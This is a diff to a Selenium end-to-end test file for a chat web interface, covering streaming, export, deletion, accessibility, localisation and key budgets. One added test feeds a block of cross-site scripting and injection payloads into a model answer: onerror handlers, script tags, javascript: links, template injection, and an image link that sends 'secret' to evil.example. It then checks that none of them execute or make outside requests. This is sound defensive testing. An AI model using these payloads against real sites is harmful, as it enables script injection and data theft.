@@ -4,8 +4,8 @@ from __future__ import annotations
 
 import base64
 import json
-import time
-from collections.abc import Callable, Iterator
+import urllib.request
+from collections.abc import Callable
 from pathlib import Path
 
 import pytest
@@ -44,6 +44,18 @@ def send(person: Person, text: str) -> None:
     person.until(lambda: person.named("Message", "textarea").get_attribute("value") == "")
 
 
+def pick(person: Person, menu: str, entry: str) -> None:
+    """Open a menu and pick one of its entries."""
+    person.until(lambda: not person.all(".q-menu"))
+    person.click(menu)
+    person.until(lambda: [one for one in person.all(".q-menu .q-item") if one.text == entry])[0].click()
+
+
+def script(text: str) -> str:
+    """Return the words by which the upstream says a text."""
+    return f"[[says-{text.encode().hex()}]]"
+
+
 def answers(person: Person) -> list[str]:
     return [one.text for one in person.all(".fen-answer .fen-text")]
 
@@ -55,19 +67,21 @@ def wait_whole(person: Person, count: int = 1) -> str:
 
 
 @pytest.fixture(scope="module")
-def chat(serve: Callable[..., Serving], visit: Callable[..., Person]) -> Iterator[Person]:
+def chat(serve: Callable[..., Serving], visit: Callable[..., Person]) -> Person:
     """A person at a server of its own, without keys."""
-    yield visit(serve(SOURCES).url)
+    return visit(serve(SOURCES).url)
 
 
-def test_an_answer_streams_and_tells_what_it_came_to(chat: Person) -> None:
+def test_an_answer_streams_and_tells_what_it_came_to(chat: Person, upstream: str) -> None:
     chat.open("/")
     choose_model(chat, "fake/gpt-4o-mini")
-    send(chat, "Hello [[tokens-40-gap-30ms]]")
+    send(chat, "Hello [[tokens-40-gap-30ms-stall-30]]")
     early = chat.until(lambda: [text for text in answers(chat) if "word2" in text])[0]
     chat.named("Stop")
     later = chat.until(lambda: [text for text in answers(chat) if len(text) > len(early)])[0]
     assert later.startswith(early)
+    chat.until(lambda: "word29" in answers(chat)[0])
+    urllib.request.urlopen(upstream.removesuffix("/v1") + "/fake/release", timeout=10).close()
     whole = wait_whole(chat)
     assert whole.endswith("word39")
     receipt = chat.find(".fen-receipt").text
@@ -95,8 +109,7 @@ def test_consent_keeps_it_over_a_reload_and_exports_it(chat: Person) -> None:
     folder = "/tmp/fen-chat-downloads"
     chat.driver.execute_cdp_cmd("Browser.setDownloadBehavior", {"behavior": "allow", "downloadPath": folder})
     for kind in ("Markdown", "JSON"):
-        chat.click("Export")
-        chat.click(f"As {kind}")
+        pick(chat, "Export", f"As {kind}")
         pattern = "*.md" if kind == "Markdown" else "*.json"
         [file] = chat.until(lambda pattern=pattern: list(Path(folder).glob(pattern)))
         text = chat.until(file.read_text)
@@ -127,7 +140,7 @@ def test_stop_retry_and_edit(chat: Person) -> None:
 
 def test_a_new_line_is_not_sent(chat: Person) -> None:
     field = chat.named("Message", "textarea")
-    field.send_keys("a", Keys.SHIFT + Keys.ENTER, "b" + Keys.NULL)
+    field.send_keys("a", Keys.SHIFT + Keys.ENTER + Keys.NULL, "b")
     assert field.get_attribute("value") == "a\nb"
     assert len(chat.all(".fen-bubble")) == 1
     field.send_keys(Keys.CONTROL, "a")
@@ -175,3 +188,117 @@ def test_the_meter_warns_before_it_hurts(chat: Person) -> None:
     chat.see("The context is nearly full")
     chat.driver.execute_cdp_cmd("Input.insertText", {"text": "word " * 2700})
     chat.see("messages: found at least")
+
+
+ATTACKS = """<img src=x onerror="window.hacked=1"><script>window.hacked=1</script>
+
+[press](javascript:window.hacked=1) [data](data:text/html,<script>window.hacked=1</script>)
+
+![secret](https://evil.example/?q=secret) <iframe src="https://evil.example/"></iframe>
+
+{{constructor.constructor('window.hacked=1')()}} <style>@import 'https://evil.example/'</style>
+
+```"><img src=x onerror=window.hacked=1>
+<script>window.hacked=1</script>
+</code></pre><img src=x onerror=window.hacked=1>
+```
+
+[https://bank.example](https://evil.example)
+
+```python
+def area(r: float) -> float:
+    return 3.14159 * r * r  # of a circle
+```
+"""
+
+
+def test_attacks_in_an_answer_do_nothing(chat: Person) -> None:
+    chat.list_requests()
+    chat.find_faults()
+    chat.open("/")
+    choose_model(chat, "fake/gpt-4o-mini")
+    send(chat, script(ATTACKS))
+    wait_whole(chat)
+    answer = chat.find(".fen-answer .fen-text")
+    assert not answer.find_elements(By.CSS_SELECTOR, "img, iframe, script, style, [onerror]")
+    leads = [link.get_attribute("href") for link in answer.find_elements(By.TAG_NAME, "a")]
+    assert all(lead is not None and lead.startswith("https://evil.example") for lead in leads)
+    assert "(evil.example)" in answer.text
+    assert chat.run("return window.hacked") is None
+    assert all(url.startswith((chat.url, "data:", "blob:")) for url in chat.list_requests())
+    assert not chat.find_faults()
+    chat.shoot("chat-attacks")
+    chat.driver.execute_cdp_cmd("Browser.grantPermissions", {"permissions": ["clipboardReadWrite"]})
+    chat.all(".fen-copy")[-1].click()
+    chat.see("Copied")
+    copied = chat.driver.execute_async_script("navigator.clipboard.readText().then(arguments[0])")
+    assert copied == "def area(r: float) -> float:\n    return 3.14159 * r * r  # of a circle\n"
+
+
+def test_deleting_deletes(chat: Person) -> None:
+    chat.until(lambda: len(chat.all(".fen-list li")) > 1)
+    count = len(chat.all(".fen-list li"))
+    pick(chat, "More about this conversation", "Rename")
+    chat.fill("Title", "Attacks")
+    chat.all(".q-dialog button")[-1].click()
+    chat.until(lambda: chat.find(".fen-list a").text == "Attacks")
+    address = chat.driver.current_url.removeprefix(chat.url)
+    pick(chat, "More about this conversation", "Delete")
+    chat.until(lambda: len(chat.all(".fen-list li")) == count - 1)
+    chat.open(address)
+    chat.until(lambda: "talk=" not in chat.driver.current_url)
+    chat.see("What would you like to know?")
+
+
+@pytest.mark.parametrize("theme", ["light", "dark"])
+def test_no_barrier_with_content_on_desk_and_phone(chat: Person, theme: str) -> None:
+    chat.driver.add_cookie({"name": "fen_theme", "value": theme})
+    chat.open(
+        str(chat.until(lambda: chat.all(".fen-list a"))[-1].get_attribute("href")).removeprefix(chat.url)
+    )
+    wait_whole(chat, 2)
+    chat.click("Details")
+    chat.see("Calls of upstreams")
+    chat.shoot(f"chat-talk-{theme}")
+    assert not AXE.exists() or not chat.find_barriers()
+    chat.resize(PHONE)
+    chat.until(lambda: not chat.all(".fen-talks"))
+    chat.shoot(f"chat-phone-{theme}")
+    assert chat.run("return document.documentElement.scrollWidth") <= PHONE[0]
+    chat.click("Conversations")
+    chat.find(".fen-talks")
+    chat.shoot(f"chat-phone-drawer-{theme}")
+    chat.resize(DESK)
+
+
+def test_chinese(visit: Callable[..., Person], chat: Person) -> None:
+    person = visit(chat.url, "zh-CN")
+    person.open("/")
+    person.see("想了解点什么？")
+    person.named("消息", "textarea").send_keys("写一首诗 [[zh-tokens-60]]", Keys.ENTER)
+    wait_whole(person)
+    person.see("词元/秒")
+    person.shoot("chat-zh-talk")
+
+
+def test_a_budget_that_runs_out_says_so(serve: Callable[..., Serving], visit: Callable[..., Person]) -> None:
+    server = serve()
+    secret = server.fen("keys", "create", "poor", "--budget", "0.00005USD/total")["secret"]
+    person = visit(server.url)
+    person.open("/signin")
+    person.fill("Key", secret + "\n")
+    person.see("What would you like to know?")
+    choose_model(person, "fake/gpt-4o-mini")
+    send(person, "Write it [[tokens-50]]")
+    wait_whole(person)
+    send(person, "And on [[tokens-50]]")
+    error = person.until(lambda: person.all(".fen-error"))[0].text
+    assert "found" in error
+    assert "expected" in error
+    assert "budget" in error
+    assert [one.text for one in person.all(".fen-bubble")][-1] == "And on [[tokens-50]]"
+    person.shoot("chat-budget")
+    server.fen("keys", "revoke", "poor")
+    person.named("Message", "textarea").send_keys("Still here?", Keys.ENTER)
+    person.see("found a key that was revoked")
+    assert person.named("Message", "textarea").get_attribute("value") == "Still here?"
